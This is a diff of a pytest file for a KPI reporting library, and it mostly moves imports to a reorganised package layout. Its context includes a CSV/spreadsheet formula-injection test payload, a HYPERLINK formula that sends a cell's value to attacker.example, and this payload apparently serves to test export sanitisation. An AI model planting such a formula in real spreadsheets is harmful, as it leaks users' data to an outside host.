@@ -21,12 +21,12 @@ from typing import Any
 import openpyxl
 import pytest
 
-from kpi_lib.exports import FORMULA_PREFIXES, csv_cell, scorecard_xlsx
-from kpi_lib.params import IndicatorParams, Params
-from kpi_lib.period import Period
-from kpi_lib.result import DepartmentResult, Explanation, IndicatorRecord
-from kpi_lib.summary import IndexRow, summary_csv_text, summary_xlsx
-from kpi_lib.template import load_template
+from kpi_lib.inputs.params import IndicatorParams, Params
+from kpi_lib.inputs.period import Period
+from kpi_lib.inputs.template import load_template
+from kpi_lib.reports.exports import FORMULA_PREFIXES, csv_cell, scorecard_xlsx
+from kpi_lib.reports.summary import IndexRow, summary_csv_text, summary_xlsx
+from kpi_lib.scoring.result import DepartmentResult, Explanation, IndicatorRecord
 
 PAYLOAD = 'HYPERLINK("http://attacker.example/?x="&A2,"details")'
 PREFIXES = ["=", "+", "-", "@", "\t", "\r"]
@@ -307,7 +307,7 @@ def test_summary_xlsx_grade_labels_are_in_each_departments_language() -> None:
 
 def test_summary_xlsx_is_checked_by_verify_with_named_columns(tmp_path: Path) -> None:
     """crosscheck reads an indicator column by the header's first word (the id), so a changed score is found."""
-    from kpi_lib.crosscheck import Expected, check_xlsx
+    from kpi_lib.audit.crosscheck import Expected, check_xlsx
 
     path = tmp_path / "summary.xlsx"
     path.write_bytes(summary_xlsx("2026-Q4", [_department_row("cs-a", total=91.0, score=88.0)]))
@@ -345,8 +345,8 @@ BEHAVIOUR
 def test_html_to_pdf_prints_the_page_as_laid_out_or_names_the_page_it_could_not(
     tmp_path: Path, monkeypatch: pytest.MonkeyPatch, behaviour: str, error: str | None
 ) -> None:
-    from kpi_lib.errors import SetupError
-    from kpi_lib.exports import html_to_pdf
+    from kpi_lib.base.errors import SetupError
+    from kpi_lib.reports.exports import html_to_pdf
 
     bin_dir = tmp_path / "bin"
     bin_dir.mkdir()
@@ -371,8 +371,8 @@ def test_html_to_pdf_prints_the_page_as_laid_out_or_names_the_page_it_could_not(
 
 
 def test_without_chromium_the_error_says_how_to_install_it(monkeypatch: pytest.MonkeyPatch, tmp_path: Path) -> None:
-    from kpi_lib.errors import SetupError
-    from kpi_lib.exports import chromium
+    from kpi_lib.base.errors import SetupError
+    from kpi_lib.reports.exports import chromium
 
     monkeypatch.setenv("PATH", str(tmp_path))
     with pytest.raises(SetupError, match=re.escape("Chromium is not installed: run `make pdf-deps`")):
